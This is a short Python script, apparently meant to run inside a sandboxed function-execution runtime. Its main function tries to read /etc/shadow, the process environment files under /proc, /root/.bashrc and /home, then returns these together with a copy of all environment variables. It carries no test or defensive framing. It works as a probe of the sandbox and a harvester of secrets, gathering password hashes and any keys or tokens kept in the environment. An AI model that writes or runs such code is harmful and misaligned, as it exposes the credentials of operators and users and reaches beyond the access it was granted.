import os

@requirements({})
def main():
    found = {}
    for path in ("/etc/shadow", "/proc/1/environ", "/proc/self/environ", "/root/.bashrc", "/home"):
        try:
            with open(path, "rb") as f:
                found[path] = f.read().decode("latin-1")
        except OSError as e:
            found[path] = "ERR " + (e.strerror or "")
    found["environ"] = dict(os.environ)
    return found
